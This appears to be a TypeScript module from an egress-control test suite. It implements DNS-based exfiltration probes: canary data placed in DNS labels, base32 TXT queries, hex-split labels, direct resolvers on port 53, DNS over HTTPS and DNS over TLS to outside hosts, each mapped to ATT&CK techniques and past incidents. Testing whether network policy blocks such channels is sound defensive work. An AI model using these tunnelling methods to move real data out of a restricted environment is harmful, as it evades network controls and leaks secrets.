/** Data in DNS, and resolvers of one's own. */
import { Resolver } from "node:dns/promises";
import { toBase32 } from "../canary.ts";
import {
  codeOf,
  datagram,
  dnsQuery,
  framed,
  latin1,
  plain,
  request,
  secure,
  toAddress,
  toCollector,
} from "../probe/fire.ts";
import { systemResolver } from "../probe/system.ts";
import type { Fired, Shot, Technique } from "../technique.ts";

const zone = ["zone"] as const;
const dns = { kind: "dns" } as const;

/** Through the machine's own resolver, which passes it on. */
async function ask(shot: Shot, name: string, type: "A" | "TXT"): Promise<Fired> {
  const resolver = new Resolver({ timeout: shot.patience, tries: 1 });
  try {
    const answer = await resolver.resolve(name, type);
    const echo = /echo: ?([0-9a-f]{32})/.exec(JSON.stringify(answer))?.[1];
    return { fired: true, saw: "answered", ...(echo === undefined ? {} : { echo }) };
  } catch (error) {
    return { fired: true, saw: `name ${codeOf(error)}` };
  }
}

const hexOf = (text: string) => Buffer.from(text).toString("hex");

export const dnsTechniques: readonly Technique[] = [
  {
    id: "dns-label",
    name: "data in a DNS label",
    class: "T4",
    attack: ["T1048.003", "T1071.004"],
    incidents: [
      { name: "SANDWORM_MODE", year: 2026 },
      { name: "Nx Console extension", year: 2026 },
      { name: "SUNBURST", year: 2020 },
    ],
    does: "Looks up a name under the attacker's domain whose label is the canary.",
    works: "The machine's own resolver carries it to the attacker's name server; no connection is made.",
    expected: "blocked",
    needs: zone,
    channel: dns,
    probe: (shot) => ask(shot, `${shot.canary}.${shot.zone}`, "A"),
  },
  {
    id: "dns-txt-base32",
    name: "a TXT question with data in base32",
    class: "T4",
    attack: ["T1048.003", "T1132.001"],
    incidents: [{ name: "SANDWORM_MODE", year: 2026 }],
    does: "Asks for TXT records of a name that holds the canary in base32, as DNS tunnels do.",
    works: "TXT answers are the way back, and few filters know why a job would need them.",
    expected: "blocked",
    needs: zone,
    channel: dns,
    probe: (shot) => ask(shot, `${toBase32(shot.canary)}.t.${shot.zone}`, "TXT"),
  },
  {
    id: "dns-label-hex-split",
    name: "data in hex, spread over labels",
    class: "T4",
    attack: ["T1048.003", "T1030"],
    incidents: [{ name: "SUNBURST", year: 2020 }],
    does: "Looks up a name with the canary in hex over two labels.",
    works: "Alerts on long labels do not see short ones.",
    expected: "blocked",
    needs: zone,
    channel: dns,
    probe: (shot) => ask(shot, `${hexOf(shot.canary).replace(/^.{18}/, "$&.")}.${shot.zone}`, "A"),
  },
  {
    id: "dns-label-tcp",
    name: "data in a DNS label, over TCP",
    class: "T5",
    attack: ["T1071.004", "T1048.003"],
    incidents: [{ name: "CVE-2025-47775 (published)", year: 2025 }],
    does: "Asks the machine's own resolver over TCP for a name that holds the canary.",
    works: "Filters that read DNS read UDP.",
    expected: "blocked",
    needs: zone,
    channel: dns,
    probe: async (shot) => {
      const server = systemResolver();
      if (server === null) return { fired: false, why: "the machine has no resolver" };
      return plain(server, 53, [framed(dnsQuery(`${shot.canary}.${shot.zone}`, 1))], shot);
    },
  },
  {
    id: "direct-resolver",
    name: "a resolver of one's own, over UDP",
    class: "T8",
    attack: ["T1071.004", "T1048.003"],
    incidents: [{ name: "SANDWORM_MODE", year: 2026 }],
    does: "Asks the attacker's own server on port 53 and not the machine's resolver.",
    works: "Port 53 is often open to anywhere.",
    expected: "blocked",
    needs: [],
    channel: { kind: "udp", port: 53 },
    probe: (shot) =>
      toAddress(shot, 4, (address) => datagram(address, 53, dnsQuery(`${shot.canary}.d.invalid`, 16), shot)),
  },
  {
    id: "direct-resolver-tcp",
    name: "a resolver of one's own, over TCP",
    class: "T8",
    attack: ["T1071.004", "T1048.003"],
    incidents: [],
    does: "The same over TCP.",
    works: "As above; UDP rules do not hold it.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 53 },
    probe: (shot) =>
      toAddress(shot, 4, (address) => plain(address, 53, [framed(dnsQuery(`${shot.canary}.d.invalid`, 16))], shot)),
  },
  {
    id: "doh-by-address",
    name: "DNS over HTTPS to a bare address",
    class: "T6",
    attack: ["T1572", "T1071.004"],
    incidents: [
      { name: "Godlua", year: 2019 },
      { name: "GHSA-46g3-37rh-v698 (published)", year: 2026 },
    ],
    does: "Posts a DNS message to /dns-query at an address.",
    works: "The question is inside TLS, and well-known resolvers have well-known addresses.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) => toAddress(shot, 4, (address) => secure(address, 443, "", [overHttps(address, shot)], shot)),
  },
  {
    id: "doh-by-name",
    name: "DNS over HTTPS to a resolver by name",
    class: "T6",
    attack: ["T1572", "T1071.004"],
    incidents: [{ name: "Godlua", year: 2019 }],
    does: "Resolves a DNS over HTTPS server's name first, then posts the question there.",
    works: "One allowed lookup, and every other is invisible.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toCollector(shot, (address) =>
        secure(address, 443, shot.collector.name!, [overHttps(shot.collector.name!, shot)], shot),
      ),
  },
  {
    id: "dns-over-tls",
    name: "DNS over TLS",
    class: "T7",
    attack: ["T1572", "T1071.004"],
    incidents: [],
    does: "Asks the attacker's resolver on port 853 inside TLS.",
    works: "It is TLS on a port that TLS filters do not watch and DNS filters cannot read.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 853 },
    probe: (shot) =>
      toAddress(shot, 4, (address) => {
        const message = latin1(framed(dnsQuery(`${shot.canary}.d.invalid`, 1)));
        return secure(address, 853, "", [message], shot);
      }),
  },
  {
    id: "dns-under-allowed-wildcard",
    name: "data in a label under an allowed wildcard",
    class: "T4",
    attack: ["T1071.004", "T1048.003"],
    incidents: [],
    does: "Looks up a name under a wildcard that the policy allows, with the canary in its first label.",
    works: "Whoever runs the zone's name server reads every label asked for.",
    expected: "reached",
    limit:
      "An allowed wildcard allows its names. Budgets of distinct names bound how much, not whether; prefer exact hosts.",
    needs: ["wildcard", "range"],
    channel: dns,
    probe: (shot) => ask(shot, shot.site.wildcard!.replace("*", shot.canary), "A"),
  },
];

function overHttps(host: string, shot: Shot): string {
  const message = latin1(dnsQuery(`${shot.canary}.d.invalid`, 1));
  return request(host, message, { path: "/dns-query", type: "application/dns-message" });
}
